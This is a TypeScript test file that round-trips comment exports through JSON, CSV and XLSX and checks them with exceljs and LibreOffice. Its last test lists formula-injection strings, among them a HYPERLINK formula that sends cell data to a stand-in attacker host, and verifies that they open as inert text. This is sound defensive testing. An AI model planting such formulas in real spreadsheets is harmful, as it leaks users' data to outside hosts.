/**
 * Exports and imports of the comment workspace read back with real readers: exceljs, csv-parse in strict
 * mode, LibreOffice. A property test round-trips random comments (any Unicode, texts of 1 MB) through JSON,
 * CSV and XLSX.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import {
  backupJson,
  type Comment,
  commentsFromRows,
  type CommentStore,
  emptyStore,
  exportColumns,
  readBackup,
  templateCsv,
} from '../../src/lib/comments/comment-model.ts';
import { fillCommentWorkbook, workbookRows } from '../../src/lib/comments/comment-workbook.ts';
import { cellText, xmlSafe } from '../../src/lib/comments/spreadsheet-cells.ts';
import { strictCsvRows } from '../support/strict-csv.ts';
import { useTempDirs } from '../support/temp-dir.ts';
import { COLUMNS } from '../fixtures/comments/template-columns.ts';

const tempDir = useTempDirs();
const options = { now: '2026-12-01T00:00:00Z', newId: () => 'generated' };

/**
 * exceljs as the page runs it. In a browser exceljs encodes each XML part with TextEncoder before zipping
 * it (and decodes with TextDecoder); under Node it hands JSZip JavaScript strings, which JSZip cuts into
 * 16 KiB pieces before encoding, splitting any surrogate pair at a cut into two U+FFFD. The page never
 * takes that Node-only path, so the round trip takes the browser's (exceljs reads `process.browser`).
 */
async function asInBrowser<T>(f: () => Promise<T>): Promise<T> {
  const p = process as { browser?: boolean };
  p.browser = true;
  try {
    return await f();
  } finally {
    delete p.browser;
  }
}

async function xlsxRoundTrip(
  store: CommentStore,
): Promise<{ comments: Comment[]; commenter: string; replaced: number }> {
  const wb = new ExcelJS.Workbook();
  const { replaced } = fillCommentWorkbook(wb, store, exportColumns(COLUMNS), options.now);
  const back = new ExcelJS.Workbook();
  await asInBrowser(async () => back.xlsx.load(await wb.xlsx.writeBuffer()));
  return { ...commentsFromRows(workbookRows(back), COLUMNS, options), replaced };
}

/** A small deterministic generator (mulberry32), so that a failure can be replayed from its seed. */
function random(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Any Unicode scalar value, with CSV/spreadsheet specials and line breaks much more often than chance. */
function randomText(r: () => number, length: number): string {
  const specials = [
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    '\r\n',
    '"',
    ',',
    "'",
    ' ',
    '\u0000',
    '\u007F',
    '\uFFFF',
    '\uFFFE',
    '\u{10FFFF}',
    '\u{1F600}',
    'é',
    '_x000D_',
    '_x005F_',
  ];
  const out: string[] = [];
  while (out.length < length) {
    const k = r();
    if (k < 0.3) out.push(specials[Math.floor(r() * specials.length)]!);
    else if (k < 0.6) out.push(String.fromCodePoint(0x20 + Math.floor(r() * 0x5f)));
    else {
      let cp = Math.floor(r() * 0x110000);
      if (cp >= 0xd800 && cp <= 0xdfff) cp -= 0x800;
      out.push(String.fromCodePoint(cp));
    }
  }
  return out.join('');
}

function randomStore(seed: number, count: number, bigText: boolean): CommentStore {
  const r = random(seed);
  const comments = Array.from({ length: count }, (_, i): Comment => {
    const lineStart = r() < 0.7 ? 1 + Math.floor(r() * 5000) : undefined;
    return {
      id: `id-${seed}-${i}`,
      document: r() < 0.5 ? 'SP 800-213r1 ipd' : 'SP 800-213A',
      section: `${1 + Math.floor(r() * 9)}.${Math.floor(r() * 9)}`,
      page: r() < 0.8 ? String(1 + Math.floor(r() * 90)) : '',
      ...(lineStart ? { lineStart, lineEnd: lineStart + Math.floor(r() * 9) } : {}),
      target: `s-${i}-p${Math.floor(r() * 20)}`,
      ...(r() < 0.8 ? { href: `/guidance/${i}/#s-${i}-p1` } : {}),
      type: (['E', 'G', 'T'] as const)[Math.floor(r() * 3)]!,
      // A comment starts with a letter (an empty comment is refused), then anything.
      comment: `C${randomText(r, bigText && i === 0 ? 1_000_000 : Math.floor(r() * 300))}`,
      suggestion: randomText(r, bigText && i === 1 ? 1_000_000 : Math.floor(r() * 100)),
      created: `2026-11-0${1 + Math.floor(r() * 9)}T10:00:00.000Z`,
      updated: '2026-11-30T10:00:00.000Z',
      revision: 1,
    };
  });
  return { ...emptyStore(), commenter: { name: `Reader ${seed}`, organization: 'Agency X' }, comments };
}

/** Names the first comment and field that differ (a 1 MB text diff is unreadable). */
function firstDifference(got: Comment[], want: Comment[], format: string) {
  expect(got.length, `${format}: number of comments`).toBe(want.length);
  want.forEach((w, i) => {
    for (const k of Object.keys(w) as (keyof Comment)[]) {
      const a = String(got[i]![k]);
      const b = String(w[k]);
      if (a === b) continue;
      let at = 0;
      while (a[at] === b[at]) at++;
      const show = (s: string) =>
        `${JSON.stringify(s.slice(Math.max(0, at - 5), at + 10))} (${[...s.slice(at, at + 4)].map((c) => `U+${c.codePointAt(0)!.toString(16).toUpperCase()}`).join(' ')})`;
      expect.fail(`${format}: comment ${i + 1}, field ${k} differs at ${at}: got ${show(a)}, expected ${show(b)}`);
    }
  });
}

const xmlSafeComment = (c: Comment): Comment => ({
  ...c,
  comment: xmlSafe(c.comment).text,
  suggestion: xmlSafe(c.suggestion).text,
});

describe('round trips of random comments (any Unicode, 1 MB texts)', () => {
  for (const [seed, count, big] of [
    [1, 40, false],
    [2, 40, false],
    [3, 5, true],
  ] as const) {
    it(`seed ${seed}: ${count} comments${big ? ', two of 1 MB' : ''} through JSON, CSV and XLSX, nothing lost`, async () => {
      const store = randomStore(seed, count, big);
      expect(readBackup(backupJson(store))).toEqual(store);

      const csv = templateCsv(store, exportColumns(COLUMNS));
      const fromCsv = commentsFromRows(strictCsvRows(csv.text), COLUMNS, { ...options, csv: true });
      expect(fromCsv.commenter).toBe(`Reader ${seed} / Agency X`);
      firstDifference(fromCsv.comments, store.comments, 'CSV');
      expect(fromCsv.comments).toEqual(store.comments);

      const fromXlsx = await xlsxRoundTrip(store);
      firstDifference(fromXlsx.comments, store.comments.map(xmlSafeComment), 'XLSX');
      expect(fromXlsx.comments).toEqual(store.comments.map(xmlSafeComment));
      const forbidden = store.comments.reduce(
        (n, c) => n + xmlSafe(c.comment).replaced + xmlSafe(c.suggestion).replaced,
        0,
      );
      expect(fromXlsx.replaced).toBe(forbidden);
    }, 120_000);
  }
});

describe('XLSX cells of every kind import as their text', () => {
  it('rich text, formulas, hyperlinks, numbers and dates', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Sheet');
    ws.addRow([
      'Type (E/G/T)',
      'Page #',
      'Starting Line #',
      'Section',
      'Comment (include rationale)',
      'Suggested Change',
      'Created',
    ]);
    ws.addRow([
      { richText: [{ text: 'T' }] },
      { formula: '2+3', result: 5 },
      12,
      { text: '2.1', hyperlink: 'https://example.invalid/' },
      { richText: [{ text: 'Bold ', font: { bold: true } }, { text: 'and plain.' }] },
      {
        text: { richText: [{ text: 'Linked ' }, { text: 'rich' }] },
        hyperlink: 'https://example.invalid/',
      } as unknown as ExcelJS.CellValue,
      new Date(Date.UTC(2026, 10, 23)),
    ]);
    const back = new ExcelJS.Workbook();
    await back.xlsx.load(await wb.xlsx.writeBuffer());
    const { comments } = commentsFromRows(workbookRows(back), COLUMNS, options);
    expect(comments).toEqual([
      {
        id: 'generated',
        document: 'SP 800-213r1 ipd',
        section: '2.1',
        page: '5',
        lineStart: 12,
        target: '2.1 p.5',
        type: 'T',
        comment: 'Bold and plain.',
        suggestion: 'Linked rich',
        created: '2026-11-23',
        updated: options.now,
        revision: 1,
      },
    ]);
    expect(cellText({ error: '#REF!' })).toBe('#REF!');
    expect(cellText(true)).toBe('true');
  });
});

const SOFFICE = process.env.SOFFICE_PATH ?? '/usr/bin/soffice';

function soffice(file: string, to: string, outDir: string): string {
  if (!existsSync(SOFFICE))
    throw new Error(
      `LibreOffice is not at ${SOFFICE}: install it (apt-get install -y libreoffice-calc-nogui) or set SOFFICE_PATH.`,
    );
  execFileSync(
    SOFFICE,
    [`-env:UserInstallation=file://${outDir}/profile`, '--headless', '--convert-to', to, '--outdir', outDir, file],
    { stdio: 'pipe', timeout: 120_000 },
  );
  return join(
    outDir,
    file
      .split('/')
      .pop()!
      .replace(/\.\w+$/, `.${to.split(':')[0]}`),
  );
}

describe('the exports in LibreOffice', () => {
  it('opens the CSV with formula-like cells as text (no formula, no live link), and the XLSX with forbidden characters whole', async () => {
    const dir = tempDir();
    const attack = [
      '=HYPERLINK("http://attacker.invalid/?"&A1,"Click for details")',
      '+SUM(1,2)',
      '-1+2',
      '@SUM(1)',
      '\t=1+1',
      'Plain.',
    ];
    const store = {
      ...emptyStore(),
      commenter: { name: 'A', organization: 'B' },
      comments: attack.map((comment, i) => ({
        ...randomStore(9, 1, false).comments[0]!,
        id: `a${i}`,
        comment: i === 5 ? 'Plain \u0001 text\uFFFF end' : comment,
        suggestion: 'after',
      })),
    };
    const csvFile = join(dir, 'comments.csv');
    writeFileSync(csvFile, templateCsv(store, exportColumns(COLUMNS)).text);
    const converted = new ExcelJS.Workbook();
    await converted.xlsx.readFile(soffice(csvFile, 'xlsx', dir));
    const ws = converted.worksheets[0]!;
    const cells = attack.slice(0, 5).map((_, i) => ws.getRow(i + 2).getCell(8));
    for (const c of cells) {
      expect(c.formula, String(c.value)).toBeUndefined();
      expect(c.hyperlink).toBeUndefined();
      expect(typeof c.value).toBe('string');
    }
    expect(cells.map((c) => String(c.value).replace(/^'/, ''))).toEqual(attack.slice(0, 5));

    const wb = new ExcelJS.Workbook();
    const { replaced } = fillCommentWorkbook(wb, store, exportColumns(COLUMNS), options.now);
    expect(replaced).toBe(2);
    const xlsxFile = join(dir, 'export.xlsx');
    writeFileSync(xlsxFile, Buffer.from(await wb.xlsx.writeBuffer()));
    const csvBack = strictCsvRows(
      readFileSync(
        soffice(xlsxFile, 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false', dir),
        'utf8',
      ),
    );
    expect(csvBack).toHaveLength(attack.length + 1);
    expect(csvBack[6]![7]).toBe('Plain \uFFFD text\uFFFD end');
    expect(csvBack[6]![8]).toBe('after');
    expect(csvBack.every((r) => r.length === exportColumns(COLUMNS).length)).toBe(true);
  }, 180_000);
});
